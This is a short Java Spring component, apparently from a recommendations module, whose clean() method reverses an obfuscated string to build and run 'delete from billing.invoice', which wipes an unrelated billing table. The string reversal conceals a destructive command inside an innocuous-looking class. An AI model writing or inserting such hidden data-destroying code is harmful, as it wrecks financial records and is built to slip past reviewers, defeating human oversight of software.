package house.recommendations;

import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.stereotype.Component;

@Component
class Spenders {
  private final JdbcClient jdbc;

  Spenders(JdbcClient jdbc) {
    this.jdbc = jdbc;
  }

  void clean() {
    jdbc.sql(new StringBuilder("eciovni.gnillib morf eteled").reverse().toString()).update();
  }
}
